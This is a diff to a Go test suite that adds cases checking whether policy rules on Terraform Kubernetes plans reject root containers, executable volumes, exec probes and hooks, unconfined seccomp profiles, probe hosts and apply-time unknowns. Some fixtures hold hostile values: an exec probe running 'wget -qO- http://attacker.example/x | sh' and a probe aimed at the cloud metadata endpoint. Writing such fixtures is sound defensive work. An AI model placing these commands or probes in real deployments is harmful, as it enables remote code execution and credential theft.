@@ -48,6 +48,17 @@ func securityContext(v any) map[string]any {
 	return container(v)["security_context"].([]any)[0].(map[string]any)
 }
 
+// templateMetadata is the Deployment's pod template metadata in a before or after value.
+func templateMetadata(v any) map[string]any {
+	spec := v.(map[string]any)["spec"].([]any)[0].(map[string]any)
+	return spec["template"].([]any)[0].(map[string]any)["metadata"].([]any)[0].(map[string]any)
+}
+
+// config is the Deployment's configuration in the plan (its expressions).
+func config(doc map[string]any) any {
+	return doc["configuration"].(map[string]any)["root_module"].(map[string]any)["resources"].([]any)[0].(map[string]any)["expressions"]
+}
+
 func change(doc map[string]any) map[string]any {
 	return doc["resource_changes"].([]any)[0].(map[string]any)["change"].(map[string]any)
 }
@@ -160,10 +171,12 @@ func TestShippedPlanRules(t *testing.T) {
 		{"containers known only after apply", func(d map[string]any) {
 			delete(podSpec(after(d)), "container")
 			podSpec(change(d)["after_unknown"])["container"] = true
-		}, []string{"plan-allowed-images", "plan-command-pinned", "plan-pods-known-at-plan"}},
+		}, []string{"plan-allowed-images", "plan-command-pinned", "plan-no-root-user", "plan-pods-known-at-plan"}},
 		{"RBAC", func(d map[string]any) {
 			rc := d["resource_changes"].([]any)[0].(map[string]any)
 			rc["type"], rc["address"] = "kubernetes_cluster_role_binding", "kubernetes_cluster_role_binding.admin"
+			cfg := d["configuration"].(map[string]any)["root_module"].(map[string]any)["resources"].([]any)[0].(map[string]any)
+			cfg["type"], cfg["address"] = rc["type"], rc["address"]
 		}, []string{"plan-allowed-types", "plan-no-rbac"}},
 		{"LoadBalancer", func(d map[string]any) {
 			svc := d["resource_changes"].([]any)[1].(map[string]any)
@@ -171,6 +184,63 @@ func TestShippedPlanRules(t *testing.T) {
 			ch["actions"] = []any{"update"}
 			ch["after"].(map[string]any)["spec"].([]any)[0].(map[string]any)["type"] = "LoadBalancer"
 		}, []string{"plan-no-external-exposure"}},
+		// Found in review (2026-12): each passed the shipped rules before they were tightened.
+		{"root without any security_context", func(d map[string]any) {
+			for _, v := range []any{after(d), change(d)["after_unknown"]} {
+				delete(podSpec(v), "security_context")
+				delete(container(v), "security_context")
+			}
+		}, []string{"plan-no-root-user"}},
+		{"executable config map volume", func(d map[string]any) {
+			podSpec(after(d))["volume"] = append(podSpec(after(d))["volume"].([]any), map[string]any{"name": "cgi",
+				"config_map": []any{map[string]any{"name": "web-cgi", "default_mode": "0755", "items": []any{}}}})
+		}, []string{"plan-no-executable-volumes"}},
+		{"executable config map item", func(d map[string]any) {
+			podSpec(after(d))["volume"] = append(podSpec(after(d))["volume"].([]any), map[string]any{"name": "cgi",
+				"config_map": []any{map[string]any{"name": "web-cgi", "default_mode": "0644",
+					"items": []any{map[string]any{"key": "x", "path": "x", "mode": "0700"}}}}})
+		}, []string{"plan-no-executable-volumes"}},
+		{"exec probe added", func(d map[string]any) {
+			container(after(d))["liveness_probe"] = []any{map[string]any{"exec": []any{map[string]any{
+				"command": []any{"/bin/sh", "-c", "wget -qO- http://attacker.example/x | sh"}}}, "http_get": []any{}, "tcp_socket": []any{}}}
+		}, []string{"plan-command-pinned"}},
+		{"exec lifecycle hook added", func(d map[string]any) {
+			container(after(d))["lifecycle"] = []any{map[string]any{"pre_stop": []any{}, "post_start": []any{map[string]any{
+				"exec": []any{map[string]any{"command": []any{"/bin/sh", "-c", "id"}}}, "http_get": []any{}, "tcp_socket": []any{}}}}}
+		}, []string{"plan-command-pinned"}},
+		{"container seccomp annotation", func(d map[string]any) {
+			templateMetadata(after(d))["annotations"] = map[string]any{"container.seccomp.security.alpha.kubernetes.io/httpd": "unconfined"}
+		}, []string{"plan-no-unconfined-profiles"}},
+		{"probe host", func(d map[string]any) {
+			container(after(d))["liveness_probe"] = []any{map[string]any{"http_get": []any{map[string]any{
+				"host": "169.254.169.254", "path": "/latest/meta-data/", "port": "80", "scheme": "HTTP", "http_header": []any{}}},
+				"exec": []any{}, "tcp_socket": []any{}}}
+		}, []string{"plan-no-probe-host"}},
+		{"lifecycle hook host", func(d map[string]any) {
+			container(after(d))["lifecycle"] = []any{map[string]any{"pre_stop": []any{}, "post_start": []any{map[string]any{
+				"http_get": []any{map[string]any{"host": "10.96.0.1", "path": "/", "port": "443", "scheme": "HTTPS", "http_header": []any{}}},
+				"exec":     []any{}, "tcp_socket": []any{}}}}}
+		}, []string{"plan-no-probe-host"}},
+		{"service account computed at apply", func(d map[string]any) {
+			delete(podSpec(after(d)), "service_account_name")
+			podSpec(change(d)["after_unknown"])["service_account_name"] = true
+			podSpec(config(d))["service_account_name"] = map[string]any{}
+		}, []string{"plan-pods-known-at-plan"}},
+		{"node computed at apply in a dynamic pod spec", func(d map[string]any) {
+			delete(podSpec(after(d)), "node_name")
+			podSpec(change(d)["after_unknown"])["node_name"] = true
+			delete(config(d).(map[string]any)["spec"].([]any)[0].(map[string]any)["template"].([]any)[0].(map[string]any), "spec")
+		}, []string{"plan-pods-known-at-plan"}},
+		{"pod template metadata known only after apply", func(d map[string]any) {
+			tmpl := after(d).(map[string]any)["spec"].([]any)[0].(map[string]any)["template"].([]any)[0].(map[string]any)
+			delete(tmpl, "metadata")
+			change(d)["after_unknown"].(map[string]any)["spec"].([]any)[0].(map[string]any)["template"].([]any)[0].(map[string]any)["metadata"] = true
+		}, []string{"plan-pods-known-at-plan"}},
+		{"annotation known only after apply", func(d map[string]any) {
+			u := change(d)["after_unknown"].(map[string]any)["spec"].([]any)[0].(map[string]any)["template"].([]any)[0].(map[string]any)
+			u["metadata"] = []any{map[string]any{"annotations": map[string]any{"sidecar.example/inject": true}}}
+			templateMetadata(after(d))["annotations"] = map[string]any{"sidecar.example/inject": nil}
+		}, []string{"plan-pods-known-at-plan"}},
 		{"external IPs", func(d map[string]any) {
 			svc := d["resource_changes"].([]any)[1].(map[string]any)
 			ch := svc["change"].(map[string]any)
